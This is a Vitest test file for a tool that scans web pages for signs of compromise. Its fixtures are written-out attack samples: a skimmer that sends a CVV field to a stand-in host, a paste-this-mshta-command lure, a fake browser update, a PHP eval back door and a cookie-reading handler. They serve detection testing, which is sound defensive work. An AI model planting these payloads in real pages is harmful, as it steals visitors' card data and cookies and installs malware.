import { describe, expect, it } from 'vitest';
import { severityOf } from '../../../src/checks/script/judge/verdict.ts';
import { judgePage } from '../../../src/checks/script/page/judge-page.ts';

const context = { url: new URL('https://shop.example/'), isInline: true, ownHosts: ['shop.example'] };

function found(html: string): readonly (readonly [string, string])[] {
  return judgePage(html, context).verdicts.map(({ rule, score }) => [rule, severityOf(score)]);
}

const spam = Array.from(
  { length: 6 },
  (_, index) => `<a href="https://pills${index}.invalid/buy-viagra">cheap casino loans ${index}</a>`,
).join(' ');
const partners = Array.from(
  { length: 12 },
  (_, index) => `<a href="https://partner${index}.invalid/">Partner ${index}</a>`,
).join(' ');

describe('a page that was changed by an attacker', () => {
  it.each([
    ['a frame of one pixel', '<iframe src="https://drop.invalid/a" width="1" height="1"></iframe>'],
    [
      'a frame far outside',
      '<iframe style="position:absolute; left:-5000px" src="//drop.invalid/a"></iframe>',
    ],
    [
      'a frame in a part that nobody sees',
      '<div style="display:none"><p><iframe src="https://drop.invalid/"></iframe></p></div>',
    ],
    [
      'a frame that is hidden by a class',
      '<style>.q1 { opacity: 0 }</style><iframe class="a q1" src="https://drop.invalid/"></iframe>',
    ],
  ])('has %s', (_, html) => expect(found(html)).toEqual([['script-hidden-frame', 'medium']]));

  it.each([
    ['a style', `<div style="position:absolute;left:-9999px">${spam}</div>`],
    ['an empty height', `<div style="height:0; overflow:hidden">${spam}</div>`],
    ['a style sheet', `<style>#x7 { text-indent: -9999px }</style><ul id="x7"><li>${spam}</li></ul>`],
    [
      'a script',
      `<div id="mz">${spam}</div><script>document.getElementById("mz").style.display="none"</script>`,
    ],
  ])('has links that are hidden by %s', (_, html) => {
    expect(found(html)).toEqual([['script-spam-links', 'high']]);
  });

  it('sends what is typed in an error handler of an empty image', () => {
    const html = `<img src=x onerror="fetch('https://drop.invalid/?'+document.querySelector('#cvv').value,{mode:'no-cors'})">`;
    expect(found(html)).toEqual([['script-skimmer', 'high']]);
  });

  it('offers a program to visitors who believe that theirs is outdated', () => {
    const html = `<h1>Your version of Chrome is out of date</h1><a href="https://drop.invalid/Chrome_update.exe">Update now</a>`;
    expect(found(html)).toEqual([['script-fake-update', 'high']]);
  });

  it('has visitors paste a command', () => {
    const html = `<p>Press Win + R, then Ctrl + V and Enter</p><code>mshta https://drop.invalid/a</code>`;
    expect(found(html)).toEqual([['script-fake-update', 'high']]);
  });

  it('shows code of a back door', () => {
    expect(found('<p>a</p><?php @eval(base64_decode($_POST["x"])); ?>')).toEqual([
      ['script-leaked-server-code', 'high'],
    ]);
  });

  it('takes a script of a host that imitates another', () => {
    expect(found('<script src="https://cdn.other-vendor.invalid/a.js"></script>')).toEqual([]);
    for (const host of ['cdn.jqeury.invalid', 'www.googletagmanagers.invalid', 'cloudfIare-js.invalid']) {
      expect(found(`<script src="https://${host}/a.js"></script>`)).toEqual([
        ['script-look-alike-host', 'medium'],
      ]);
    }
  });

  it('has a script behind its end', () => {
    const { lateScripts } = judgePage(
      '<html></html><script src="/late.js"></script><script>a()</script>',
      context,
    );
    expect(lateScripts).toEqual([
      'https://shop.example/late.js',
      expect.stringMatching(/^sha256-[A-Za-z0-9+/]{43}=$/),
    ]);
  });
});

describe('an honest page', () => {
  it.each([
    [
      'the frame of a tag manager',
      '<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-0" height="0" width="0" style="display:none"></iframe></noscript>',
    ],
    ['a frame of its own', '<iframe src="/sso" width="0" height="0"></iframe>'],
    ['a frame that shows', '<iframe src="https://maps.invalid/" width="600" height="400"></iframe>'],
    ['hidden links to partners', `<div style="display:none">${partners}</div>`],
    [
      'a menu that opens',
      `<style>.menu{display:none}</style><ul class="menu"><li><a href="https://shop.example/casino">Casino night dress</a></li></ul>`,
    ],
    ['an article on casinos', `<p>${spam}</p>`],
    [
      'a hint to update the browser',
      '<p>Your browser is out of date.</p><a href="https://www.google.com/chrome/">Update Chrome</a>',
    ],
    [
      'a download of its own',
      '<p>Update your browser extension</p><a href="/files/manual.pdf" download>Manual</a>',
    ],
    ['a sample in a script', `<script>const samples = {php: '<?php echo "Hello"; ?>'}</script>`],
    ['an article that shows PHP', '<pre>&lt;?php eval(base64_decode($_POST["x"]));</pre>'],
    [
      'handlers of its own',
      `<form onsubmit="return validate(this, document.querySelector('#cvv').value)"><a href="javascript:void(openMenu('main', true))">Menu</a></form>`,
    ],
  ])('has %s', (_, html) => {
    expect(found(html).filter(([, severity]) => severity !== 'info' && severity !== 'low')).toEqual([]);
  });
});

it.each([
  ['elements in each other', '<div style="display:none">'.repeat(50_000)],
  ['links', '<a href="https://x.invalid/">casino'.repeat(50_000)],
  ['handlers', '<p onclick="fetch(atob(`aaaa`)+document.cookie)">'.repeat(5000)],
  ['style sheets without end', '<style>.a{'.repeat(20_000)],
  ['attributes', `<p ${Array.from({ length: 50_000 }, (_, index) => `data-${index}="a"`).join(' ')}>`],
])('a page of many %s is gone through once', (_, html) => {
  expect(judgePage(html, context).verdicts.length).toBeLessThan(1000);
});
